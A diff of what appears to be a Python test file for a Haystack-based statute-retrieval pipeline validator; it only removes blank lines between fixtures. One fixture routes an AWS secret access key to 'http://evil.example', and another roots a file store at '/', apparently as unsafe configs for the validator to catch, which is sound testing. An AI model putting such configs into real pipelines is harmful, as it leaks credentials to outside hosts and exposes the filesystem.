@@ -86,14 +86,8 @@ STORE_PART = {
     "type": "components.stores.sqlite.StatuteDocumentStore",
     "init_parameters": {"path": None},
 }
-
-
 BM25 = "components.retrievers.bm25.StatuteBM25Retriever"
-
-
 FUSER = "components.joiners.rank_fusion.StatuteRankFuser"
-
-
 LEXICAL: dict[str, Any] = {
     "components": {
         "bm25": {"type": BM25, "init_parameters": {"document_store": STORE_PART, "top_k": 5}},
@@ -117,8 +111,6 @@ def lexical_with(place: str, value: Any) -> dict[str, Any]:
 
 
 PARAMETERS = "components/bm25/init_parameters"
-
-
 STORE_PARAMETERS = f"{PARAMETERS}/document_store/init_parameters"
 
 
@@ -166,23 +158,11 @@ def test_a_missing_parameter_is_named():
 
 
 ANSWER = "haystack.components.builders.answer_builder.AnswerBuilder"
-
-
 BRANCH = "haystack.components.joiners.branch.BranchJoiner"
-
-
 MOCK = "haystack.components.generators.chat.mock.MockChatGenerator"
-
-
 OPENAI = "haystack.components.generators.chat.openai.OpenAIChatGenerator"
-
-
 PROMPT = "haystack.components.builders.prompt_builder.PromptBuilder"
-
-
 TOLERANT = "components.generators.tolerant.TolerantChatGenerator"
-
-
 ENGINE_BM25 = "components.retrievers.engine_lexical.EngineLexicalRetriever"
 
 
@@ -205,24 +185,16 @@ TOOL = {
     "type": "haystack.tools.tool.Tool",
     "data": {"name": "t", "function": "components.models.weights.load"},
 }
-
-
 HOOK = {
     "type": "haystack.hooks.tool_result_offloading.hooks.ToolResultOffloadHook",
     "init_parameters": {"store": {"type": "haystack.x.FileSystemStore", "data": {"root": "/"}}},
 }
-
-
 AGENT = made(
     "haystack.components.agents.agent.Agent",
     chat_generator=made(MOCK, responses=[]),
     hooks={"after_tool": [HOOK]},
 )
-
-
 ENGINE_KEY = made(QDRANT_STORE, url="http://evil.example", api_key=secret("AWS_SECRET_ACCESS_KEY"))
-
-
 LOCAL_KEY = secret("LEXARBOR_GENERATOR_KEY")
 
 
